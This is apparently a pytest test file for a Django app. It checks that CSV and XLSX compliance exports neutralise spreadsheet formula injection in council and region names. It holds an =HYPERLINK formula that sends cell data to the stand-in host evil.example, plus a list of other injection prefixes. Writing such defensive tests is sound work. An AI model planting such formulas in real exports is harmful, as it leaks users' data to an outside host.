"""Exports that a spreadsheet program opens never execute what a council's name or any other text holds."""

import csv
import io

import pytest
from openpyxl import load_workbook

from common import spreadsheets
from tests.factories import CouncilFactory, RegionFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def council():
    return CouncilFactory(name_kk=FORMULA, name_ru=FORMULA, region=RegionFactory(name_kk="@SUM(1)", name_ru="-1+1"))


def test_the_compliance_csv_carries_a_formula_as_text(ministry, council):
    content = ministry.get("/admin/compliance/export.csv?lang=ru").content.decode("utf-8-sig")
    rows = [row for row in csv.reader(io.StringIO(content)) if row[0] == "'" + FORMULA]
    assert rows
    for row in rows:
        assert row[2] == "'-1+1"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_compliance_xlsx_holds_strings_and_no_formula(ministry, council):
    workbook = load_workbook(io.BytesIO(ministry.get("/admin/compliance/export.xlsx?lang=kk").content))
    rows = [row for row in workbook.active.iter_rows() if row[0].value == "'" + FORMULA]
    assert rows
    for row in rows:
        assert row[2].value == "'@SUM(1)"
        assert all(cell.data_type != "f" for cell in row)
        assert row[0].data_type == "s"


@pytest.mark.parametrize("text", HOSTILE)
def test_every_dangerous_start_is_neutralised(text):
    assert spreadsheets.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Ақмола", "", "a=b", 2026, -3, None])
def test_other_values_are_kept_as_they_are(value):
    assert spreadsheets.neutralise(value) == value


def test_an_xlsx_written_by_the_module_has_no_formula_whatever_its_cells():
    response = spreadsheets.xlsx_response([["name", "n"], *[[text, 1] for text in HOSTILE]], name="t", title="T")
    sheet = load_workbook(io.BytesIO(response.content)).active
    # (XML, which an XLSX is, reads a carriage return as a line feed)
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert all(cell.data_type in ("s", "n") for row in sheet.iter_rows() for cell in row)
